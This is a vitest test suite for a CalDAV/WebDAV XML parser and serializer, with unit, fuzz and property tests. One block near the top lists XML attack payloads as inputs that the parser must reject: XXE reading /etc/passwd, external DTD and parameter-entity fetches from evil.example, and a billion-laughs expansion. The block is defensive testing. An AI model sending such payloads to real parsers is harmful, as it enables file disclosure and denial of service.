import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import {
  DavParseError,
  NS_CALDAV,
  NS_DAV,
  el,
  escapeText,
  fastParseXml,
  matchesFilter,
  parseExtendedMkcol,
  parseMkcalendar,
  parsePropfind,
  parseProppatch,
  parseReport,
  parseXml,
  saxesParseXml,
  serializeXml,
  type XmlElement,
} from '../../../src/lib/dav/index.js';
import ICAL from 'ical.js';

function parseErrorOf(fn: () => unknown): DavParseError {
  try {
    fn();
  } catch (err) {
    expect(err).toBeInstanceOf(DavParseError);
    return err as DavParseError;
  }
  throw new Error('expected a DavParseError');
}

describe('parseXml', () => {
  it('builds a namespace-aware tree; xmlns attributes are dropped, others kept', () => {
    const t = parseXml('<a:x xmlns:a="urn:a" xmlns="urn:d" y="1" a:z="2"><b>hi<![CDATA[ <there> ]]></b></a:x>');
    expect(t).toEqual({
      ns: 'urn:a',
      name: 'x',
      attrs: { y: '1', '{urn:a}z': '2' },
      text: '',
      children: [{ ns: 'urn:d', name: 'b', attrs: {}, children: [], text: 'hi <there> ' }],
    });
  });

  it('accepts a UTF-8 BOM and decodes character references', () => {
    expect(parseXml('\uFEFF<a xmlns="DAV:">&#65;&amp;&lt;</a>').text).toBe('A&<');
  });

  const attacks: Record<string, string> = {
    'XXE file': `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&xxe;</D:displayname></D:prop></D:propfind>`,
    'XXE http': `<?xml version="1.0"?><!DOCTYPE foo SYSTEM "http://evil.example/x.dtd"><D:propfind xmlns:D="DAV:"><D:allprop/></D:propfind>`,
    'billion laughs': `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>`,
    'bare DOCTYPE': '<!DOCTYPE propfind><propfind xmlns="DAV:"><allprop/></propfind>',
    'parameter entity': '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><x/>',
    'undefined entity without DTD': '<D:propfind xmlns:D="DAV:"><D:prop>&nope;</D:prop></D:propfind>',
  };
  for (const [name, body] of Object.entries(attacks)) {
    it(`rejects ${name}`, () => {
      const err = parseErrorOf(() => parsePropfind(body));
      expect(err.code).toBe('BAD_XML');
      expect(err.message).not.toMatch(/root:/); // never leaks file content
    });
  }

  const malformed = [
    '<D:propfind xmlns:D="DAV:">',
    '<D:propfind xmlns:D="DAV:"></D:prop>',
    '<a></a><b></b>',
    'just text',
    '<x:a/>', // unbound prefix
    '<a b="1" b="2"/>',
    '<a>\u0001</a>',
    '<?xml version="1.0"?>',
  ];
  for (const body of malformed) {
    it(`rejects malformed ${JSON.stringify(body)}`, () => {
      expect(parseErrorOf(() => parseXml(body)).code).toBe('BAD_XML');
    });
  }

  it('enforces size, depth and element-count limits', () => {
    expect(parseErrorOf(() => parseXml('<a/>'.padEnd(100, ' '), { maxLength: 50 })).message).toMatch(/exceeds/);
    const deep = '<a>'.repeat(100) + '</a>'.repeat(100);
    expect(parseErrorOf(() => parseXml(deep)).message).toMatch(/deeper/);
    const many = `<a>${'<b/>'.repeat(200)}</a>`;
    expect(parseErrorOf(() => parseXml(many, { maxElements: 100 })).message).toMatch(/More than/);
  });
});

describe('serializeXml', () => {
  it('uses stable prefixes and generates ones for unknown namespaces', () => {
    const tree = el(NS_DAV, 'multistatus', [
      el('http://calendarserver.org/ns/', 'getctag', [], '1'),
      el('http://apple.com/ns/ical/', 'calendar-color', [], '#fff'),
      el(NS_CALDAV, 'calendar-data'),
      el('urn:x-unknown', 'thing'),
      el('urn:y', 'other'),
    ]);
    const out = serializeXml(tree, { declaration: false });
    expect(out).toBe(
      '<D:multistatus xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav" xmlns:CS="http://calendarserver.org/ns/" xmlns:A="http://apple.com/ns/ical/" xmlns:x0="urn:x-unknown" xmlns:x1="urn:y">' +
        '<CS:getctag>1</CS:getctag><A:calendar-color>#fff</A:calendar-color><C:calendar-data/><x0:thing/><x1:other/></D:multistatus>',
    );
  });

  it('keeps xml:lang on the predeclared xml prefix', () => {
    const t = parseXml('<D:displayname xmlns:D="DAV:" xml:lang="de">Arbeit</D:displayname>');
    const out = serializeXml(t, { declaration: false });
    expect(out).toBe('<D:displayname xmlns:D="DAV:" xml:lang="de">Arbeit</D:displayname>');
    expect(parseXml(out)).toEqual(t);
  });

  it('escapes text and attributes and survives a reparse', () => {
    const nasty = `<&>"' ]]> \r\n\u0000`;
    const tree = el('urn:"odd"&ns', 'p', [], nasty, { a: nasty });
    const back = parseXml(serializeXml(tree));
    expect(back.ns).toBe('urn:"odd"&ns');
    expect(back.text).toBe(`<&>"' ]]> \n\uFFFD`); // CR normalised by XML, NUL replaced
    expect(back.attrs['a']).toBe(`<&>"' ]]> \r\n\uFFFD`);
  });
});

// ---------------------------------------------------------------------------------------------
// Property tests: whatever arrives, parsers fail only with DavParseError.

const NAMES = [
  'propfind', 'prop', 'allprop', 'propname', 'include', 'propertyupdate', 'set', 'remove', 'mkcol',
  'mkcalendar', 'resourcetype', 'calendar-query', 'calendar-multiget', 'sync-collection', 'sync-token',
  'sync-level', 'limit', 'nresults', 'free-busy-query', 'filter', 'comp-filter', 'prop-filter',
  'param-filter', 'text-match', 'is-not-defined', 'time-range', 'calendar-data', 'comp', 'expand',
  'limit-recurrence-set', 'href', 'expand-property', 'property', 'principal-property-search',
  'property-search', 'match', 'calendarserver-principal-search', 'search-token', 'timezone',
];
const NSS = [NS_DAV, NS_CALDAV, 'http://calendarserver.org/ns/', 'urn:x'];
const ATTR_VALUES = ['VCALENDAR', 'VEVENT', 'VTODO', 'VALARM', 'SUMMARY', 'PARTSTAT', '20240101T000000Z', '20250101T000000Z', 'yes', 'no', 'i;octet', 'i;klingon', 'equals', '1', 'infinity', '', 'x'];

const treeArb: fc.Arbitrary<XmlElement> = fc.letrec((tie) => ({
  node: fc.record({
    ns: fc.constantFrom(...NSS),
    name: fc.constantFrom(...NAMES),
    attrs: fc.dictionary(fc.constantFrom('name', 'start', 'end', 'collation', 'negate-condition', 'match-type', 'namespace', 'test', 'novalue', 'context'), fc.constantFrom(...ATTR_VALUES), { maxKeys: 3 }),
    children: fc.oneof(
      { maxDepth: 5, depthIdentifier: 'tree' },
      fc.constant<XmlElement[]>([]),
      fc.array(tie('node') as fc.Arbitrary<XmlElement>, { maxLength: 4 }),
    ),
    text: fc.oneof(fc.constant(''), fc.constantFrom(...ATTR_VALUES), fc.string({ maxLength: 8 })),
  }),
})).node;

const SAMPLE = ICAL.Component.fromString(
  'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//x//x//EN\r\nBEGIN:VEVENT\r\nUID:a\r\nDTSTAMP:20240101T000000Z\r\nDTSTART:20240110T100000Z\r\nRRULE:FREQ=DAILY;COUNT=5\r\nSUMMARY:Hi\r\nATTENDEE;PARTSTAT=ACCEPTED:mailto:a@b\r\nBEGIN:VALARM\r\nACTION:DISPLAY\r\nTRIGGER:-PT5M\r\nEND:VALARM\r\nEND:VEVENT\r\nBEGIN:VTODO\r\nUID:b\r\nDUE:20240105T000000Z\r\nEND:VTODO\r\nEND:VCALENDAR\r\n',
);

function allParsers(input: string | XmlElement): void {
  const guarded = (fn: () => unknown) => {
    try {
      fn();
    } catch (err) {
      if (!(err instanceof DavParseError)) throw err;
    }
  };
  guarded(() => parsePropfind(input));
  guarded(() => parseProppatch(input));
  guarded(() => parseMkcalendar(input));
  guarded(() => parseExtendedMkcol(input));
  guarded(() => {
    const tree = typeof input === 'string' ? parseXml(input) : input;
    const r = parseReport(tree);
    // Anything that parses must also evaluate without throwing.
    if (r.kind === 'calendar-query') matchesFilter(SAMPLE, r.filter, { maxInstances: 50 });
  });
}

describe('fuzz', () => {
  it('random strings only ever raise DavParseError', () => {
    fc.assert(fc.property(fc.string({ maxLength: 200 }), (s) => allParsers(s)), { numRuns: 500 });
  });

  it('random XML-ish strings only ever raise DavParseError', () => {
    const token = fc.constantFrom('<', '>', '</', '/>', '<D:prop>', '</D:prop>', 'xmlns:D="DAV:"', '<!DOCTYPE', '&amp;', '&x;', '<![CDATA[', ']]>', '"', '=', ' ', 'a', '<?xml version="1.0"?>');
    fc.assert(fc.property(fc.array(token, { maxLength: 30 }), (ts) => allParsers(ts.join(''))), { numRuns: 500 });
  });

  it('random DAV trees (serialized and as trees) only ever raise DavParseError', () => {
    fc.assert(
      fc.property(treeArb, (tree) => {
        allParsers(tree);
        allParsers(serializeXml(tree));
        expect(parseXml(serializeXml(tree))).toBeTruthy();
      }),
      { numRuns: 400 },
    );
  });
});

// parseXml() reads the common shape of request bodies without saxes (fastParseXml) and hands
// everything else to saxes: the two must agree on every document the fast reader accepts.
describe('fastParseXml', () => {
  /** What saxes makes of `doc`: the tree, or 'error'. */
  const viaSaxes = (doc: string): XmlElement | 'error' => {
    try {
      return saxesParseXml(doc);
    } catch (e) {
      expect(e).toBeInstanceOf(DavParseError);
      return 'error';
    }
  };
  const agrees = (doc: string) => {
    const fast = fastParseXml(doc);
    const slow = viaSaxes(doc);
    if (fast !== null) expect(fast).toEqual(slow);
    return fast;
  };

  it('reads the bodies clients send, as saxes does', () => {
    const cal = '/dav/calendars/anna@example.com/work/';
    const bodies = [
      `<C:calendar-multiget xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav"><D:prop><D:getetag/><C:calendar-data/></D:prop>${[1, 2, 3].map((i) => `<D:href>${cal}ev-${i}.ics</D:href>`).join('')}</C:calendar-multiget>`,
      `<?xml version="1.0" encoding="utf-8" ?>\n<d:propfind xmlns:d="DAV:" xmlns:cs="http://calendarserver.org/ns/">\n  <d:prop>\n    <d:resourcetype />\n    <cs:getctag />\n  </d:prop>\n</d:propfind>\n`,
      `<?xml version='1.0' standalone='yes'?><propfind xmlns="DAV:"><prop><getetag/></prop></propfind>`,
      `<C:calendar-query xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav"><D:prop><D:getetag/></D:prop><C:filter><C:comp-filter name="VCALENDAR"><C:comp-filter name="VEVENT"><C:time-range start="20300610T000000Z" end="20300617T000000Z"/></C:comp-filter></C:comp-filter></C:filter></C:calendar-query>`,
      `<a xmlns="urn:a"><b xmlns="">x > y, é ünïcode</b><c xmlns:p="urn:p"><p:d q='1' r="a'b"/></c></a>`,
      `<x:a xmlns:x="urn:1"><x:b xmlns:x="urn:2"/><x:c/></x:a>`,
      `<D:href xmlns:D="DAV:">/dav/calendars/anna/work/%C3%A9v%C3%A9nement.ics</D:href>`,
    ];
    for (const b of bodies) {
      expect(fastParseXml(b), b).not.toBeNull();
      agrees(b);
    }
  });

  it('leaves to saxes every construct outside its subset, and every malformed or unsafe body', () => {
    const others = [
      '<a xmlns="DAV:">&#65;&amp;&lt;</a>', '<a>&x;</a>', '<a><![CDATA[x]]></a>', '<a><!-- c --></a>', '<?pi x?><a/>', '<a><?pi x?></a>',
      '<!DOCTYPE a><a/>', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>', '<a>\r\n</a>', '<a b="\tx"/>', '<a xml:lang="en"/>',
      '<x:a xmlns:x="urn:x" x:b="1"/>', '<x:a/>', '<a></b>', '<a>', '<a/><b/>', 'text<a/>', '<a/>text', '<a b="1" b="2"/>', '<a b="1"c="2"/>',
      '<a>\u0001</a>', '<a>\uD800</a>', '<a>😀</a>', '<a>]]></a>', '<é/>', '<a xmlns:p=""/>', '<a xmlns:="urn:x"/>', '<a xmlns:1p="urn:x"/>',
      '<xml:a/>', '<a xmlns:xml="urn:x"/>', '<a xmlns="http://www.w3.org/XML/1998/namespace"/>', ' <?xml version="1.0"?><a/>', '<?xml version="1.1"?><a/>',
      '<?xml-stylesheet href="x"?><a/>', '', '   ', '<a / >', '< a/>', '<a b=1/>', '<a b="<"/>',
    ];
    for (const d of others) expect(fastParseXml(d), d).toBeNull();
    for (const [d, depth, count] of [['<a><a><a/></a></a>', 2, 100], ['<a><b/><c/></a>', 64, 2]] as const) {
      expect(fastParseXml(d, depth, count)).toBeNull();
      expect(() => parseXml(d, { maxDepth: depth, maxElements: count })).toThrow(DavParseError);
    }
  });

  it('agrees with saxes on random documents (property)', () => {
    const prefix = fc.constantFrom('', '', 'D:', 'C:', 'x:', 'xml:', 'xmlns:', 'u:');
    const local = fc.constantFrom('a', 'prop', 'href', 'x.y', 'b-c', '_z', 'xmlish', '1a');
    const attr = fc.constantFrom(
      ' xmlns:D="DAV:"', ' xmlns="urn:d"', ' xmlns=""', " xmlns:C='urn:c'", ' xmlns:x="urn:x"', ' name="VEVENT"', " a='1'", ' a="1"', ' D:z="2"',
      ' xmlns:D=""', ' b="x>y"', ' c="tab\there"', ' xmlns:="u"', ' d="a\'b"', " e='a\"b'", ' f = "sp" ', ' xmlns:xml="urn:x"', ' g="&amp;"', ' h="<"',
    );
    const text = fc.constantFrom(' ', '\n  ', '\t', 'hello', 'a>b', 'é ü ж', '&amp;', '&#65;', '&nope;', '\r\n', '<!-- c -->', '<![CDATA[x<y]]>', ']]>', '\u0001', '😀', '\uDC00', '/dav/x/ev-1.ics', '<?pi?>');
    const { node } = fc.letrec<{ node: string }>((tie) => ({
      node: fc.tuple(prefix, local, fc.array(attr, { maxLength: 3 }), fc.array(fc.oneof({ weight: 2, arbitrary: text }, { weight: 3, arbitrary: tie('node') }), { maxLength: 4 }), fc.constantFrom('match', 'match', 'match', 'self', 'wrong', 'open'))
        .map(([p, l, as, kids, close]) => {
          const q = `${p}${l}`;
          if (close === 'self' && kids.length === 0) return `<${q}${as.join('')}/>`;
          return `<${q}${as.join('')}>${kids.join('')}${close === 'open' ? '' : close === 'wrong' ? '</zz>' : `</${q}>`}`;
        }),
    }));
    const decl = fc.constantFrom('', '', '<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-8"?>\n', " <?xml version='1.0'?>", '<?xml version="1.0" encoding="1x"?>', '\n');
    const trailer = fc.constantFrom('', '', '\n', ' x', '<a/>', '<!-- c -->');
    // Bind the usual prefixes on the root half of the time, so that deep trees are often well-formed.
    const bind = fc.constantFrom('', ' xmlns:D="DAV:" xmlns:C="urn:c" xmlns:u="urn:u"');
    fc.assert(
      fc.property(decl, bind, node, trailer, (d, b, n, t) => {
        agrees(d + n.replace(/^<([^\s/>]+)/, `<$1${b}`) + t);
      }),
      { numRuns: 3000 },
    );
  });

  it('accepts, as saxes reads them, random documents of its subset (property)', () => {
    const prefix = fc.constantFrom('', 'D:', 'C:', 'u:');
    const local = fc.constantFrom('a', 'prop', 'href', 'x.y', 'b-c', '_z', 'calendar-data');
    // The root gets D:, C: and u: bound below (re-binding is in the examples and the property above).
    const attr = fc.constantFrom(' xmlns:x="urn:x"', ' name="VEVENT"', " a='1'", ' b="x>y"', ' d="a\'b"', ' xmlns=""', ' xmlns="urn:d"', ' e = "sp"');
    const text = fc.constantFrom(' ', '\n  ', '\t', 'hello', 'a>b', 'é ü ж', '/dav/x/ev-1.ics', 'BEGIN:VEVENT\nEND:VEVENT\n');
    const { node } = fc.letrec<{ node: string }>((tie) => ({
      node: fc.tuple(prefix, local, fc.uniqueArray(attr, { maxLength: 3, selector: (a) => a.split('=')[0]!.trim() }), fc.array(fc.oneof(text, tie('node')), { maxLength: 4 }), fc.boolean())
        .map(([p, l, as, kids, self]) => (self && kids.length === 0 ? `<${p}${l}${as.join('')}/>` : `<${p}${l}${as.join('')}>${kids.join('')}</${p}${l}>`)),
    }));
    const decl = fc.constantFrom('', '<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-8"?>\n', "<?xml version='1.0' standalone='no' ?>");
    let accepted = 0;
    let runs = 0;
    fc.assert(
      fc.property(decl, node, fc.constantFrom('', '\n', '  \n'), (d, n, t) => {
        runs++;
        const doc = d + n.replace(/^<([^\s/>]+)/, '<$1 xmlns:D="DAV:" xmlns:C="urn:c" xmlns:u="urn:u"') + t;
        if (agrees(doc) !== null) accepted++;
      }),
      { numRuns: 2000 },
    );
    expect(accepted / runs).toBeGreaterThan(0.9);
  });
});

describe('escapeText', () => {
  const reference = (s: string) =>
    s.replace(/[&<>]/g, (c) => (c === '&' ? '&amp;' : c === '<' ? '&lt;' : '&gt;'))
      // eslint-disable-next-line no-control-regex
      .replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');

  it('is the two-pass escaping, with or without anything to escape (property)', () => {
    const ch = fc.oneof(
      fc.constantFrom('&', '<', '>', '"', "'", '\r', '\n', '\t', '\u0000', '\u0001', '\u001F', '\uFFFE', '\uFFFF', '\uD83D', '\uDE00', '😀', 'é', 'ж', 'a', 'BEGIN:VEVENT\r\n'),
      fc.string({ unit: 'binary', maxLength: 3 }),
    );
    fc.assert(fc.property(fc.array(ch, { maxLength: 40 }), (parts) => {
      const s = parts.join('');
      expect(escapeText(s)).toBe(reference(s));
    }), { numRuns: 3000 });
    const ics = 'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:x\r\nSUMMARY:Café\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n';
    expect(escapeText(ics)).toBe(ics);
    expect(escapeText('a & b <c> 😀 \uD800')).toBe('a &amp; b &lt;c&gt; 😀 \uFFFD');
  });
});
